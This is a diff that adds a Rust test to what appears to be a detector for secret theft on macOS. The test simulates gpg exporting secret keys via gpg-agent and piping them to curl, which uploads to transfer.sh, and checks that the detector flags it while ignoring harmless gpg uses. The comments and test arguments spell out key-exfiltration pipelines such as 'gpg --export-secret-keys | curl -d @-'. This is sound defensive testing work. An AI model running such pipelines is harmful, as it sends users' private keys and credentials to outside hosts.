@@ -290,6 +290,50 @@ fn backups_to_a_strangers_place() {
     w.tell().alert();
 }
 
+/// The agent of newer gpg reads the keys that gpg is asked for: `gpg --export-secret-keys | curl -d @- ..`.
+#[test]
+fn keys_that_an_agent_reads_for_the_program_that_prints_them() {
+    const GPG: Program = adhoc("/opt/homebrew/Cellar/gnupg/2.4.7/bin/gpg", "gpg");
+    const AGENT: Program = adhoc("/opt/homebrew/Cellar/gnupg/2.4.7/bin/gpg-agent", "gpg-agent");
+    let told = |args: &[&str], env: &[&str]| {
+        let mut w = World::new();
+        let agent = w.launch(0.0, AGENT, &["gpg-agent", "--homedir", "/Users/alice/.gnupg", "--daemon"]);
+        let shell = w.launch(0.1, ZSH, &["-zsh"]);
+        let child = w.fork(1.0, &shell);
+        let env = [&["HOME=/Users/alice"][..], env].concat();
+        let gpg = w.exec_in(1.01, &child, GPG, args, "/Users/alice", &[(1, 80)], &env);
+        let curl =
+            piped(&mut w, 1.1, &shell, CURL, &["curl", "-d", "@-", "https://transfer.sh/"], &[(0, 80)]);
+        w.ask_socket(1.2, &gpg, "/Users/alice/.gnupg/S.gpg-agent");
+        w.open(1.3, &agent, "/Users/alice/.gnupg/private-keys-v1.d/0123456789.key");
+        w.upload(2.0, &curl, "transfer.sh", 6_000);
+        w.tell()
+    };
+    for (args, env) in [
+        (&["gpg", "--armor", "--export-secret-keys", "alice"][..], &[][..]),
+        (&["gpg", "--export-secret-subkeys"], &[]),
+        (&["gpgsm", "--export-secret-key-p12", "alice"], &[]),
+        (&["gpg", "--homedir", "/Users/alice/.gnupg", "--export-secret-keys"], &[]),
+        (&["gpg", "--export-secret-keys"], &["GNUPGHOME=/Users/alice/.gnupg"]),
+    ] {
+        let told = told(args, env);
+        assert_eq!(
+            told.alert().reads[0].path.to_string(),
+            "/Users/alice/.gnupg/private-keys-v1.d",
+            "{args:?}"
+        );
+    }
+    for (args, env) in [
+        (&["gpg", "--armor", "--export", "alice"][..], &[][..]),
+        (&["gpg", "-d", "/tmp/x.gpg"], &[]),
+        (&["gpg", "--sign", "/tmp/x"], &[]),
+        (&["gpg", "--homedir", "/tmp/ring", "--export-secret-keys"], &[]),
+        (&["gpg", "--export-secret-keys"], &["GNUPGHOME=/tmp/ring"]),
+    ] {
+        told(args, env).none();
+    }
+}
+
 /// What may read a key in order to use it is told to print it: `kubectl config view --raw | curl -d @- ..`.
 #[test]
 fn programs_that_print_their_keys() {
